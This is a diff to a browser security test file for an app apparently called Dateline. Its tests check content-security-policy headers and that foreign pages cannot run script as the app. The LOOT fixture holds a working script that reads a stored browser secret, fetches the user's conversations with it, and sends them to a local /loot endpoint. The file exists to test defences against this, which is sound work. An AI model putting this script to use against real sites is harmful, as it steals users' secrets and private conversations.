@@ -15,10 +15,8 @@ from tests.browser.support import ask, open_page, serving
 
 # What a page could do that runs as ours: read this browser's secret, fetch its conversations, carry them away.
 LOOT = """<!doctype html><script>
-const data = { secret: localStorage.getItem("dateline-secret") };
-const body = { data, component_id: 1, fn_name: "conversations", session_hash: "x" };
-const sent = { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify(body) };
-fetch("/gradio_api/component_server/", sent).then((reply) => reply.text()).then((loot) => {
+const sent = { headers: { "Dateline-Browser": localStorage.getItem("dateline-secret") } };
+fetch("/api/conversations", sent).then((reply) => reply.text()).then((loot) => {
   location = "http://localhost:PORT/loot?" + encodeURIComponent(loot);
 });
 </script>"""
@@ -111,7 +109,7 @@ def test_a_link_of_another_site_shows_the_page(page: Page, foreign: Foreign) -> 
     page.locator(".dl[data-ready]").wait_for()
 
 
-def test_no_inline_script_runs_in_the_page_but_that_of_its_template(page: Page) -> None:
+def test_no_inline_script_runs_in_the_page(page: Page) -> None:
     refused: list[str] = []
     page.on("console", lambda message: refused.append(message.text))
     page.evaluate(
@@ -135,6 +133,6 @@ def test_what_is_no_page_runs_nothing_even_if_a_browser_opens_it(page: Page, add
         assert "script-src" not in response.headers["content-security-policy"]
         assert "default-src 'none'" in response.headers["content-security-policy"]
     policy = page.request.get(address).headers["content-security-policy"]
-    (scripts,) = [part for part in policy.split("; ") if part.startswith("script-src")]
-    assert "unsafe-inline" not in scripts
-    assert scripts.count("sha256-") == 5
+    assert "script-src 'self';" in policy
+    assert "style-src 'self';" in policy
+    assert "unsafe" not in policy
